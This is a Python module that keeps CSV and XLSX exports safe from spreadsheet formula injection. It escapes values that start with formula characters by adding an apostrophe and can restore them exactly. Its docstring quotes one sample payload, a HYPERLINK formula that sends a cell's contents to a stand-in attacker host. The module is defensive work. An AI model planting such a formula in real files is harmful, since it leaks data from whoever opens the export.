"""Cell values that a spreadsheet cannot run: what every CSV and XLSX that tipsom writes goes through.

Free text in a case (a note, a place, a name) is typed by people tipsom does
not control. A spreadsheet that opens a CSV field starting with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return, which some strip first) treats it
as a formula, so ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` planted
by anyone who can enter a case would run on the machine of whoever exports
all cases.

The rule, chosen so that tipsom's own files round-trip exactly:

- A value made only of digits, blanks and ``+ - ( ) . /`` (a number, a
  negative number, a phone number such as ``+44 20 7946 0958``) is written as
  it is: without letters, quotes or ``!`` it can name no function and no
  other cell, so at worst a spreadsheet does arithmetic on it.
- Any other value that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage
  return gets one leading apostrophe, the mark spreadsheets themselves use
  for "text, not a formula". So does a value that starts with an apostrophe
  followed by one of those characters or by another apostrophe, so that the
  next rule can tell the two apart.
- Reading tipsom's own CSV layouts (native cases, HTCDS, rejects files)
  removes one leading apostrophe from a value that starts with an apostrophe
  followed by one of those characters or another apostrophe; every other
  value is read as it is. ``restore(neutral(v)) == v`` for every text ``v``.

XLSX cells are written as strings (never formulas), so they need no apostrophe.

The module lives in :mod:`tipsom.core` because every layer writes files:
exchange, the analyses (money, osint, estimate, context, report) and synth
all go through the same rule, and none of them may import another's package.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Mapping
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r")
#: The spreadsheet's own "this is text" mark.
TEXT_MARK = "'"
_MARKED_SECOND = FORMULA_STARTS | {TEXT_MARK}
#: Numbers and phone numbers: nothing a formula could call or reference.
_INERT = re.compile(r"[0-9 +\-().\/]*[0-9][0-9 +\-().\/]*")


def neutral(value: str) -> str:
    """``value`` as a CSV cell that no spreadsheet evaluates (see the module docstring)."""
    if not value:
        return value
    first = value[0]
    if first in FORMULA_STARTS:
        return value if _INERT.fullmatch(value) else TEXT_MARK + value
    if first == TEXT_MARK and len(value) > 1 and value[1] in _MARKED_SECOND:
        return TEXT_MARK + value
    return value


def restore(value: str) -> str:
    """The value :func:`neutral` was given, from the cell it made."""
    if len(value) > 1 and value[0] == TEXT_MARK and value[1] in _MARKED_SECOND:
        return value[1:]
    return value


def restore_all(values: list[str]) -> list[str]:
    """:func:`restore` over one row's values (cheaply: most rows hold no marked value)."""
    if not any(v[:1] == TEXT_MARK for v in values):
        return values
    return [restore(v) for v in values]


def neutral_row(values: Iterable[Any]) -> list[Any]:
    """One CSV row with every text value made :func:`neutral`; numbers and other values pass as they are."""
    return [neutral(v) if isinstance(v, str) else v for v in values]


def restore_row(row: Mapping[str, str]) -> dict[str, str]:
    """A ``csv.DictReader`` row of a file tipsom wrote, with :func:`restore` applied to every value."""
    return {key: restore(value) if isinstance(value, str) else value for key, value in row.items()}


def neutral_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are :func:`neutral`, for ``to_csv``.

    Only text columns (object, string, categorical) are touched, so numeric
    columns keep their type (and their float format); non-text values inside
    an object column (None, NaN, numbers) are kept as they are.
    """
    return _map_text(frame, neutral)


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` (read from a CSV tipsom wrote) with :func:`restore` applied to its text cells."""
    return _map_text(frame, restore)


def _map_text(frame: pd.DataFrame, convert: Callable[[str], str]) -> pd.DataFrame:
    from pandas import CategoricalDtype
    from pandas.api.types import is_object_dtype, is_string_dtype

    def holds_text(dtype: object) -> bool:
        # Categories (codes in microdata, say) are text too; pandas' string test leaves them out.
        return is_object_dtype(dtype) or is_string_dtype(dtype) or isinstance(dtype, CategoricalDtype)

    text_columns = [c for c in frame.columns if holds_text(frame[c].dtype)]
    if not text_columns:
        return frame
    out = frame.copy()
    for column in text_columns:
        values = out[column].astype(object) if isinstance(out[column].dtype, CategoricalDtype) else out[column]
        out[column] = values.map(lambda v: convert(v) if isinstance(v, str) else v)
    return out


def text_cell(sheet: Any, value: Any) -> Any:
    """An openpyxl write-only cell holding ``value`` as text, never as a formula.

    openpyxl stores a string starting with ``=`` as a formula; forcing the
    type to string keeps it the text that was entered. Other values (numbers,
    dates) keep their type.
    """
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell
